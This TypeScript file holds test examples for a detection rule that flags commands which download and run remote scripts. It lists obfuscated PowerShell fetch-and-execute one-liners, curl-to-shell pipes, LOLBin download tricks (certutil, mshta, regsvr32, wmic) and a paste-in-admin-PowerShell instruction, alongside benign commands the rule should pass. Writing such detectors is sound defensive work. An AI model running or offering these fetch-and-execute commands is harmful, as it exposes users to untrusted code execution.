import type { RuleExamples } from './types.ts';

export const remoteScript: RuleExamples = {
  match: {
    command: [
      'irm https://example.com/a | iex',
      'IRM example.com/a|IEX',
      'iwr -useb https://example.com/a.ps1 | iex',
      'Invoke-RestMethod https://example.com/a | Invoke-Expression',
      'curl -s https://example.com/a.cmd | cmd',
      'curl -fsSL https://example.com/a.sh | sudo bash',
      'iex (irm https://example.com/a)',
      'iex "& { $(irm https://example.com/a) } /x"',
      'iex ((New-Object System.Net.WebClient).DownloadString("https://example.com/a"))',
      '(New-Object Net.WebClient).DownloadString("https://example.com/a") | iex',
      '& ([ScriptBlock]::Create((irm https://example.com/a))) /x',
      'powershell -c "irm https://example.com/a | iex"',
      'i`r`m https://example.com/a | i`e`x',
      'irm https://example.com/a |\n  iex',
      '$s = irm https://example.com/a\niex $s',
      'iwr https://example.com/a.cmd -OutFile a.cmd',
      'curl -o run.bat https://example.com/run.bat',
      'certutil -urlcache -split -f https://example.com/a.exe a.exe',
      'bitsadmin /transfer job https://example.com/a.exe C:\\a.exe',
      'mshta https://example.com/a.hta',
      'regsvr32 /s /i:https://example.com/a.sct example.dll',
      'msiexec /q /i https://example.com/a.msi',
      'wmic os get /format:"https://example.com/a.xsl"',
    ],
    prose: ['Open PowerShell as administrator, paste irm https://example.com/get | iex and press Enter.'],
  },
  pass: {
    command: [
      'Invoke-WebRequest https://example.com/guide.pdf -OutFile guide.pdf',
      'curl https://example.com/status',
      'irm https://aka.ms/example | iex',
      'certutil -hashfile windows.iso SHA256',
      'Get-Content list.txt | sort',
      'wmic os get caption',
      'msiexec /i package.msi',
    ],
    prose: ['Use curl to see whether the address answers.'],
  },
};
